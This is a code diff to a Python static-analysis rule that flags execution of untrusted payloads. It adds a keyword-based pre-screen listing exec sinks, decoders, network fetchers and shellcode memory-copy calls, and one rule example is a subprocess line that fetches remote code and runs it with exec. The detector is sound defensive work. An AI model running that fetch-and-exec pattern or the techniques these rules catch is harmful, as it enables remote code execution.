@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import libcst as cst
 
 from datasec_scan import fallback
@@ -9,6 +11,7 @@ from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Example, Rule
 from datasec_scan.semantics.constants import fold_str
 
+from . import _prescreen as ps
 from ._remote import (
     DECODED,
     ENV,
@@ -36,6 +39,31 @@ _PATH_BUILDERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pa
                             "pathlib.Path().joinpath", "os.path.abspath", "os.path.dirname"})
 _MAX_COMMAND_STEPS = 12  # fetch -> variables -> a helper or two -> spawn; longer trips are incidental data
 _RISKY_FILES = ("setup.py", "__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py")
+
+# Pre-screen (a necessary condition for any report, see rules/_prescreen.py):
+# - an exec/deserialize sink (`visit_Call` -> `_check`, the only caller of scan_nested), or
+# - a spawner (`_check_spawn`), or
+# - `RtlMoveMemory`/`memmove`/`RtlCopyMemory` as written, with one of _EXECUTABLE_MEMORY (`_check_shellcode`), or
+# - what the reduced scan (`fallback.exec_of_payload`) needs: a call whose last name part is an exec sink, with a
+#   decoder/fetcher call in the file (ast level), or `exec(`-like text followed by a payload word (regex level).
+_FALLBACK_PAYLOAD = ("b64decode", "b32decode", "b16decode", "b85decode", "a85decode", "decodebytes", "decodestring",
+                     "standard_b64decode", "urlsafe_b64decode", "decompress", "unhexlify", "a2b_base64", "a2b_hex",
+                     "fromhex", "loads", "load", "decrypt", "urlopen", "urlretrieve", "recv", "recvfrom", "recv_into",
+                     "getresponse", "DownloadString")
+_FALLBACK_NET_MODULES = ("requests", "httpx", "urllib", "http", "socket", "aiohttp", "ftplib", "smtplib", "urllib3",
+                         "telnetlib")
+_APPLIES = ps.any_of(
+    ps.EXEC_SINK,
+    ps.SPAWN,
+    ps.all_of(ps.word("RtlMoveMemory", "memmove", "RtlCopyMemory"),
+              ps.regex("|".join(map(re.escape, _EXECUTABLE_MEMORY)))),
+    ps.all_of(ps.word("exec", "eval", "compile", "execfile", "FunctionType", "runsource", "run_path"),
+              ps.any_of(ps.word(*_FALLBACK_PAYLOAD),
+                        ps.all_of(ps.word("get", "post", "request", "text", "content"), ps.word(*_FALLBACK_NET_MODULES)),
+                        ps.all_of(ps.word("read"),  # `x.read()` with a fetcher anywhere in its dotted name
+                                  ps.regex("urlopen|urlretrieve|recv|getresponse|DownloadString")),
+                        lambda v: v.search(fallback._PAYLOAD_WORD))),  # the regex level's own words
+)
 
 
 class ExecOfUntrustedPayload(Rule):
@@ -95,9 +123,6 @@ class ExecOfUntrustedPayload(Rule):
     confidence = Confidence.MEDIUM
     cwe = (94, 502, 506)
     attack = ("T1059.006", "T1027", "T1105")
-    triggers = ("exec", "eval", "compile", "loads", "load(", "load_all", "FunctionType", "run_path", "runsource",
-                "Unpickler", "getattr", "__import__", "import_module", "globals", "\\x", "chr(", "b64decode", "system",
-                "popen", "subprocess", "spawn", "RtlMoveMemory", "memmove")
     VALID = (
         "exec('x = 1 + 1')\n",
         "import ast\nvalue = ast.literal_eval(text)\n",
@@ -115,6 +140,11 @@ class ExecOfUntrustedPayload(Rule):
         "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
         "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
     )
+
+    @classmethod
+    def triggered_by(cls, text: str) -> bool:
+        """A sink this rule resolves (exec, a deserializer, a spawner, a shellcode copy), or what its fallback needs."""
+        return ps.memo(cls.code, text, _APPLIES)
 
     @classmethod
     def fallback(cls, tree, text, context):  # type: ignore[override]
